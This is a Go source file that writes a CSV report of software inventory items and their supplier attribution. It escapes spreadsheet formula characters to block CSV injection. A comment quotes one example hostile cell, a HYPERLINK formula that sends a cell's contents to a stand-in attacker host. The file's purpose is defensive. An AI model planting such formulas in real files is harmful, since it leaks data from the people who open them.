package report

import (
	"bufio"
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"strings"

	"github.com/embargo-dev/embargo/attribute"
	"github.com/embargo-dev/embargo/inventory"
)

// CSV writes one row per item, attributed or not, then one row per
// unknown, for spreadsheets and scripts. The status column says which:
// restricted, not-attributed or unknown.
//
// Cells that a spreadsheet would take for a formula (starting with = + -
// @, a tab or a carriage return) get a leading apostrophe. Every cell of
// an inventory comes from the input, and inputs are not trusted: a
// package named =HYPERLINK("https://attacker/?"&A1) or a DDE payload
// would otherwise run in Excel, LibreOffice or Google Sheets when an
// analyst opens the report (CSV or formula injection, OWASP). The
// apostrophe is what spreadsheets themselves use to mark text; scripts
// that need the raw values should read -o json instead.
type CSV struct{}

// Name implements Encoder.
func (CSV) Name() string { return "csv" }

// CSVHeader lists the columns of the CSV report, in order.
var CSVHeader = []string{
	"status", "item_id", "name", "version", "type", "ecosystem",
	"source", "ref", "line", "host",
	"product_id", "product", "supplier_id", "supplier", "supplier_country",
	"controlling_country", "control_chain", "confidence", "score", "evidence", "reason",
}

// Row statuses of the CSV report.
const (
	StatusRestricted    = "restricted"
	StatusNotAttributed = "not-attributed"
	StatusUnknown       = "unknown"
)

// Encode implements Encoder.
func (CSV) Encode(w io.Writer, r *Report) error {
	bw := bufio.NewWriterSize(w, 64<<10)
	cw := csv.NewWriter(bw)
	if err := cw.Write(CSVHeader); err != nil {
		return err
	}
	row := make([]string, len(CSVHeader))
	write := func() error {
		for i, c := range row {
			row[i] = csvCell(c)
		}
		return cw.Write(row)
	}
	for _, e := range r.Items {
		clear(row)
		row[0] = StatusNotAttributed
		row[1], row[2], row[3], row[4], row[5] = e.ID, e.Name, e.Version, string(e.Type), e.Ecosystem
		csvLocation(row, e.Location)
		if a := e.Attribution; a != nil {
			v := a.View()
			row[0] = StatusRestricted
			if v.Product != nil {
				row[10], row[11] = v.Product.ID, v.Product.Name
			}
			row[12], row[13], row[14] = v.Supplier.ID, v.Supplier.Name, v.Supplier.Country
			row[15], row[16] = v.ControllingCountry, chainIDs(v.ControlChain)
			row[17], row[18] = v.Confidence.String(), strconv.Itoa(v.Score)
			row[19] = evidenceCompact(v.Evidence)
		}
		if err := write(); err != nil {
			return err
		}
	}
	for _, u := range r.Unknowns {
		clear(row)
		row[0], row[2] = StatusUnknown, u.Name
		csvLocation(row, u.Location)
		row[20] = u.Reason
		if err := write(); err != nil {
			return err
		}
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return err
	}
	return bw.Flush()
}

func csvLocation(row []string, l inventory.Location) {
	row[6], row[7], row[9] = l.Source, l.Ref, l.Host
	if l.Line > 0 {
		row[8] = strconv.Itoa(l.Line)
	}
}

// csvCell neutralises a cell that a spreadsheet would evaluate; see CSV.
func csvCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// chainIDs writes a control chain as entity ids, supplier first:
// "kaspersky-ao > kaspersky-holding".
func chainIDs(links []attribute.ChainLink) string {
	ids := make([]string, len(links))
	for i, l := range links {
		ids[i] = l.ID
	}
	return strings.Join(ids, " > ")
}

// evidenceCompact writes evidence as "field=value~kind:identifier", joined
// with "; ".
func evidenceCompact(ev []attribute.Evidence) string {
	parts := make([]string, len(ev))
	for i, e := range ev {
		parts[i] = fmt.Sprintf("%s=%s~%s:%s", e.Field, e.Value, e.Kind, e.Identifier)
	}
	return strings.Join(parts, "; ")
}

// evidenceText writes one piece of evidence for a person:
// "purl=pkg:deb/debian/kesl@1 matches deb_package kesl (https://…)".
func evidenceText(e attribute.Evidence) string {
	s := fmt.Sprintf("%s=%s matches %s %s", e.Field, e.Value, e.Kind, e.Identifier)
	switch {
	case e.SourceURL != "":
		s += " (" + e.SourceURL + ")"
	case e.Source != "":
		s += " (" + e.Source + ")"
	}
	return s
}
